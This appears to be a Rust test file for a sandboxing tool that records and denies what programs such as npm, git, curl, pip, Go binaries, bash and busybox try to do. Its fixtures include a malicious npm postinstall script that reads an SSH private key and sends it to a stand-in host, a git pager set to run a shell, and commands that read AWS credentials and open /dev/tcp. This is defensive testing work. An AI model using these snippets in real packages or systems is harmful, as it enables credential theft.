//! Programs that people use, and what the record has of them.

use crate::support::jail::{Jail, Ran};
use crate::support::place::Place;
use crate::{denials, has, in_every_tier, listed};

fn full(place: &Place, script: &str) -> Ran {
    Jail::new(place).option("--record").option("full").patient(85).bash(script)
}

fn executed(ran: &Ran, name: &str) -> bool {
    listed(ran, "commands").iter().any(|one| one["path"].as_str().is_some_and(|path| path.ends_with(name)))
}

#[test]
fn a_script_of_a_package_that_reads_keys_and_calls_home_is_told_of() {
    if !has("npm") || !has("node") {
        return;
    }
    in_every_tier(|place| {
        place.write("package.json", r#"{"name":"victim","version":"1.0.0","dependencies":{"evil":"file:./evil"}}"#);
        let evil = "{\"name\":\"evil\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node steal.js\"}}";
        place.mkdir("evil");
        place.write("evil/package.json", evil);
        let steal = "const fs=require('fs'),os=require('os');let key='';\
                     try{key=fs.readFileSync(os.homedir()+'/.ssh/id_rsa')}catch(e){}\
                     require('http').get('http://collect.example.net/?k='+key).on('error',()=>{});\
                     try{fs.writeFileSync(os.homedir()+'/../../etc/cron.d/x','x')}catch(e){}";
        place.write("evil/steal.js", steal);
        let ran = full(place, "npm install --offline --no-audit --no-fund --install-links=false");
        assert!(executed(&ran, "/node"), "{}", ran.whole());
        let all = denials(&ran);
        assert!(
            all.iter().any(|one| one.starts_with("read ") && one.ends_with("/.ssh/id_rsa")),
            "{all:?}\n{}",
            ran.whole()
        );
        if place.tier.has_namespaces() {
            assert!(all.contains(&"look_up collect.example.net".to_owned()), "{all:?}");
        }
        assert!(
            listed(&ran, "files")
                .iter()
                .any(|one| one["path"].as_str().is_some_and(|path| path.ends_with("package-lock.json")))
        );
    });
}

#[test]
fn git_changes_its_own_files_and_is_told_of_what_it_may_not_set() {
    if !has("git") {
        return;
    }
    in_every_tier(|place| {
        place.make_repository();
        place.write("file", "x");
        let ran = full(
            place,
            "git add file && git -c user.name=a -c user.email=a@b commit -qm one; git config core.pager 'sh -c id'; true",
        );
        assert!(executed(&ran, "/git"), "{}", ran.whole());
        assert!(denials(&ran).iter().any(|one| one.starts_with("set ")), "{:?}", denials(&ran));
        let objects =
            listed(&ran, "files").iter().filter(|one| one["path"].to_string().contains(".git/objects")).count();
        assert!(objects >= 3, "{:?}", listed(&ran, "files"));
    });
}

#[test]
fn curl_and_pip_are_told_of_by_the_names_that_they_ask_for() {
    in_every_tier(|place| {
        if !place.tier.has_namespaces() {
            return;
        }
        if has("curl") {
            let ran = full(place, "curl -s http://www.example.org/; curl -s http://192.0.2.7:8080/; true");
            assert!(denials(&ran).contains(&"look_up www.example.org".to_owned()), "{:?}", denials(&ran));
            assert!(denials(&ran).contains(&"connect 192.0.2.7:8080".to_owned()), "{:?}", denials(&ran));
        }
        if has_pip(place) {
            let ran = full(
                place,
                "/usr/bin/python3 -m pip download --no-deps --no-input --retries 0 --timeout 3 left-padding; true",
            );
            let all = denials(&ran);
            assert!(executed(&ran, "/python3"), "{}", ran.whole());
            assert!(all.iter().any(|one| one.starts_with("look_up ")), "pip asks its index: {all:?}");
        }
        let ran = full(
            place,
            "python3 -c 'import urllib.request as u; u.urlopen(\"http://packages.example.org/\", timeout=5)'; true",
        );
        assert!(denials(&ran).contains(&"look_up packages.example.org".to_owned()), "{:?}", denials(&ran));
    });
}

/// Whether the system's Python has pip.
fn has_pip(place: &Place) -> bool {
    let there = has("python3") && Jail::new(place).run(["/usr/bin/python3", "-m", "pip", "--version"]).code == Some(0);
    if !there {
        crate::say_skipped("pip: not installed");
    }
    there
}

#[test]
fn a_go_program_is_recorded_though_it_asks_the_kernel_itself() {
    if !["/usr/local/go/bin/go", "/usr/bin/go"].iter().any(|go| std::path::Path::new(go).exists()) {
        return crate::say_skipped("go: not installed");
    }
    let program = "package main\nimport (\"net\"; \"os\"; \"os/exec\")\nfunc main() {\n os.ReadFile(os.Getenv(\"HOME\") + \"/.ssh/id_rsa\")\n\
                   os.Mkdir(\"/etc/x\", 0o755)\n os.WriteFile(\"here\", []byte(\"x\"), 0o644)\n net.LookupHost(\"go.example.org\")\n\
                   exec.Command(\"/bin/true\").Run()\n}\n";
    in_every_tier(|place| {
        place.write("main.go", program);
        let build = "PATH=$PATH:/usr/local/go/bin CGO_ENABLED=0 GOCACHE=$PWD/.cache GO111MODULE=off go build -o program main.go";
        place.host_run(["sh", "-c", build]);
        let ran = full(place, "./program");
        assert!(executed(&ran, "/program") && executed(&ran, "/true"), "{}", ran.whole());
        let all = denials(&ran);
        assert!(all.contains(&"mkdir /etc/x".to_owned()), "{all:?}");
        assert!(all.iter().any(|one| one.starts_with("read ") && one.ends_with("/.ssh/id_rsa")), "{all:?}");
        if place.tier.has_namespaces() {
            assert!(all.iter().any(|one| one.starts_with("look_up ")), "{all:?}");
        }
    });
}

#[test]
fn bash_itself_is_told_of_by_what_it_opens_without_a_program() {
    in_every_tier(|place| {
        let ran = full(
            place,
            "read -r line < ~/.aws/credentials; : > /etc/x; exec 3<> /dev/tcp/192.0.2.1/22; echo fine > here; true",
        );
        let all = denials(&ran);
        assert_eq!(listed(&ran, "commands").len(), 1, "{}", ran.whole());
        assert!(all.contains(&"create /etc/x".to_owned()), "{all:?}");
        assert!(all.iter().any(|one| one.starts_with("read ") && one.ends_with("/.aws/credentials")), "{all:?}");
        if place.tier.has_namespaces() {
            assert!(all.contains(&"connect 192.0.2.1:22".to_owned()), "{all:?}");
        }
    });
}

#[test]
fn a_static_program_is_recorded_like_any_other() {
    in_every_tier(|place| {
        if !has("busybox") {
            return;
        }
        let ran =
            full(place, "busybox sh -c 'echo x > here'; busybox mkdir /etc/x; busybox cat ~/.aws/credentials; true");
        assert!(executed(&ran, "/busybox"), "{}", ran.whole());
        assert!(denials(&ran).contains(&"mkdir /etc/x".to_owned()), "{:?}", denials(&ran));
        assert!(denials(&ran).iter().any(|one| one.ends_with("/.aws/credentials")), "{:?}", denials(&ran));
        assert!(
            listed(&ran, "files").iter().any(|one| one["path"].as_str().is_some_and(|path| path.ends_with("/here")))
        );
    });
}
